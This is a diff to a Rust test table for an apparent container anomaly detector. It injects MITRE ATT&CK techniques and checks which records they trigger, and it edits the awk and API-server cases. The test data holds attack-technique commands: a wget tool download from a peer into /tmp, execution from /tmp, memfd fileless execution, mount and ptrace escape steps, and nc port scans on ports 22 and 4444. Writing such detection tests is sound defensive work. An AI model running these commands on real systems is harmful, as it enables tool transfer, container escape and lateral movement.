@@ -100,7 +100,10 @@ const EGRESS: &str = "profile/egress";
 const TECHNIQUES: &[Technique] = &[
     // Execution.
     injected("T1059.004", "Unix shell other than the learned one", 0, "ash -c 'echo hi'", record!(PROCESSES, &["/bin/ash", "/proc/self/exe [ash "])),
-    injected("T1059", "Interpreter the shop never runs (awk)", 0, "awk 'BEGIN { print 1 }'", record!(PROCESSES, &["/bin/awk", "/proc/self/exe [awk "])),
+    injected("T1059", "Interpreter running a command (awk system())", 0, "awk 'BEGIN { system(\"hostname\") }'",
+        // busybox runs awk inside the forked shell (no exec of its own): what shows is the
+        // shell it starts to run a command, which the shop never does.
+        record!(PROCESSES, &["/bin/sh "])),
     injected("T1105", "Ingress tool transfer (wget)", 0, "wget -q -T 3 -O /tmp/tool http://{peer}:8080/index.html", record!(PROCESSES, &["/bin/wget", "/proc/self/exe [wget "])),
     injected("T1204.002", "Downloaded binary run from /tmp", 0, "cp /bin/busybox /tmp/tool; /tmp/tool true", record!(PROCESSES, &["/tmp/tool"])),
     injected("T1620", "Fileless execution from a memfd", 0, "/usr/local/bin/attack memfd-exec", record!(PROCESSES, &["/dev/fd/", "memfd:"])),
@@ -129,7 +132,7 @@ const TECHNIQUES: &[Technique] = &[
     injected("T1611", "Escape: mount", 2, "mount -t tmpfs none /tmp", record!(SYSCALLS, &["mount"])),
     injected("T1055.008", "Process injection (ptrace)", 2, "/usr/local/bin/attack ptrace 1", record!(SYSCALLS, &["ptrace"])),
     // Discovery and lateral movement.
-    injected("T1613", "Container and resource discovery (the API server)", 2, "wget -q -T 3 -O /dev/null https://{apiserver}:443/api", record!(EGRESS, &["{apiserver}:"])),
+    injected("T1613", "Container and resource discovery (the API server)", 2, "wget -q -T 3 -O /dev/null http://{apiserver}:443/api", record!(EGRESS, &["{apiserver}:"])),
     injected("T1046", "Network service discovery (port scan)", 2, "nc -w 1 {peer} 22 </dev/null", record!(EGRESS, &["{peer}:22/"])),
     injected("T1571", "Lateral movement on a non-standard port", 2, "nc -w 1 {peer} 4444 </dev/null", record!(EGRESS, &["{peer}:4444/"])),
     injected("T1040", "Packet socket for sniffing", 2, "ping -c 1 -W 1 {peer}", Expect::Miss("herdwatch judges the socket syscall, not its family: a packet or raw socket opened by a learned process is not its own violation (the ping binary is caught as a new process)")),
